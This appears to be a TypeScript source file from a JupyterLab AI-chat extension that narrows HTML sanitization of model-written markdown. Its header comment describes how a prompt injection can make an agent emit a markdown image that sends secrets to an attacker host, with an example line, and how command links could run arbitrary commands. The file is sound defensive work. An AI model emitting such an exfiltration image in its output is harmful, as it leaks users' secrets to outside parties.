/**
 * A stricter sanitizer for model-written markdown in the sidebar.
 *
 * JupyterLab's sanitizer already strips scripts, event handlers and
 * `javascript:` links, but for notebooks it keeps things that are dangerous
 * in an agent's chat, where an injected prompt steers the text:
 * - remote resources (`<img src>`, `srcset`, `poster`, `background`, CSS
 *   `url()`): a markdown image is how a prompt injection exfiltrates data
 *   ("![](https://attacker/?q=<secret>)"), with no click needed;
 * - command links (`data-commandlinker-command` on a button): one click runs
 *   any JupyterLab command with any arguments;
 * - forms, buttons, media and image maps, which a chat answer never needs.
 *
 * This wraps the base sanitizer and narrows its allow-lists; whatever the
 * base does besides (rel="nofollow" on links, disabled inputs, ids moved
 * aside) still applies.
 */
import type { IRenderMime } from '@jupyterlab/rendermime-interfaces';

/** Tags a chat answer may use: text, lists, tables, code, quotes. */
const TAGS = [
  'a',
  'abbr',
  'acronym',
  'b',
  'bdi',
  'bdo',
  'big',
  'blockquote',
  'br',
  'caption',
  'center',
  'cite',
  'code',
  'col',
  'colgroup',
  'dd',
  'del',
  'details',
  'dfn',
  'div',
  'dl',
  'dt',
  'em',
  'figcaption',
  'figure',
  'font',
  'h1',
  'h2',
  'h3',
  'h4',
  'h5',
  'h6',
  'hr',
  'i',
  'img',
  'input',
  'ins',
  'kbd',
  'li',
  'mark',
  'nobr',
  'ol',
  'p',
  'pre',
  'q',
  's',
  'samp',
  'small',
  'span',
  'strike',
  'strong',
  'sub',
  'summary',
  'sup',
  'table',
  'tbody',
  'td',
  'tfoot',
  'th',
  'thead',
  'time',
  'tr',
  'tt',
  'u',
  'ul',
  'var',
  'wbr'
];

const CELL = ['align', 'valign', 'colspan', 'rowspan', 'scope', 'abbr'];

/**
 * Attributes per tag. No URL that loads anything: `img` keeps its alt text
 * but not its source; `a` keeps `href` (the base sanitizer allows only
 * http, https, ftp, mailto and tel there, and a link loads only on a click).
 */
const ATTRIBUTES: Record<string, string[]> = {
  '*': ['class', 'dir', 'hidden', 'lang', 'title', 'style', 'translate'],
  a: ['href', 'hreflang', 'rel', 'target'],
  img: ['alt', 'width', 'height', 'align'],
  input: ['type', 'checked', 'disabled'],
  ol: ['start', 'type', 'reversed'],
  ul: ['type'],
  li: ['value', 'type'],
  details: ['open'],
  del: ['datetime'],
  ins: ['datetime'],
  time: ['datetime'],
  font: ['color', 'size', 'face'],
  table: ['align', 'border', 'cellpadding', 'cellspacing', 'width'],
  col: ['align', 'span', 'valign', 'width'],
  colgroup: ['align', 'span', 'valign', 'width'],
  tr: ['align', 'valign'],
  td: [...CELL, 'width', 'height', 'nowrap'],
  th: [...CELL, 'width', 'height', 'nowrap'],
  div: ['align'],
  p: ['align'],
  h1: ['align'],
  h2: ['align'],
  h3: ['align'],
  h4: ['align'],
  h5: ['align'],
  h6: ['align']
};

/** A CSS colour: a name, hex, rgb(a) or hsl(a); never a url() or an escape. */
const COLOR =
  /^(#[0-9a-f]{3,8}|[a-z]{3,30}|(rgb|hsl)a?\(\s*[-\d.%,\s/deg]{1,60}\))$/i;
const LENGTH = /^-?\d{1,5}(\.\d{1,4})?(px|em|rem|%|pt|ex|ch)?$/i;

/** Inline styles that only change how text looks. */
const STYLES: Record<string, RegExp[]> = {
  color: [COLOR],
  'background-color': [COLOR],
  'text-align': [/^(left|right|center|justify|start|end)$/i],
  'font-weight': [/^(normal|bold|bolder|lighter|[1-9]00)$/i],
  'font-style': [/^(normal|italic|oblique)$/i],
  'font-size': [LENGTH, /^(x{0,2}-small|small|medium|large|x{0,2}-large)$/i],
  'text-decoration': [/^(none|underline|overline|line-through)( [a-z-]+)?$/i],
  'vertical-align': [/^(baseline|sub|super|top|middle|bottom)$/i],
  'white-space': [/^(normal|nowrap|pre|pre-wrap|pre-line)$/i],
  padding: [LENGTH],
  margin: [LENGTH]
};

/** The narrowed allow-lists, applied over the base sanitizer's options. */
export const UNTRUSTED_HTML_OPTIONS: IRenderMime.ISanitizerOptions = {
  allowedTags: TAGS,
  allowedAttributes: ATTRIBUTES,
  allowedStyles: { '*': STYLES }
};

/**
 * The sidebar's sanitizer for model output: `base` (JupyterLab's
 * sanitizer, with command links off) with the narrowed allow-lists.
 */
export class UntrustedHtmlSanitizer implements IRenderMime.ISanitizer {
  /** Wrap `base`. */
  constructor(private readonly _base: IRenderMime.ISanitizer) {}

  /** Whether plain URLs in text become links: they do (a link loads only on a click). */
  getAutolink(): boolean {
    return true;
  }

  /** Never allow `id`/`name` (DOM clobbering). */
  get allowNamedProperties(): boolean {
    return false;
  }

  /** Never allow command links. */
  get allowCommandLinker(): boolean {
    return false;
  }

  /** Sanitize with the narrowed allow-lists, whatever `options` asks for. */
  sanitize(dirty: string, options?: IRenderMime.ISanitizerOptions): string {
    return this._base.sanitize(dirty, {
      ...options,
      ...UNTRUSTED_HTML_OPTIONS
    });
  }
}
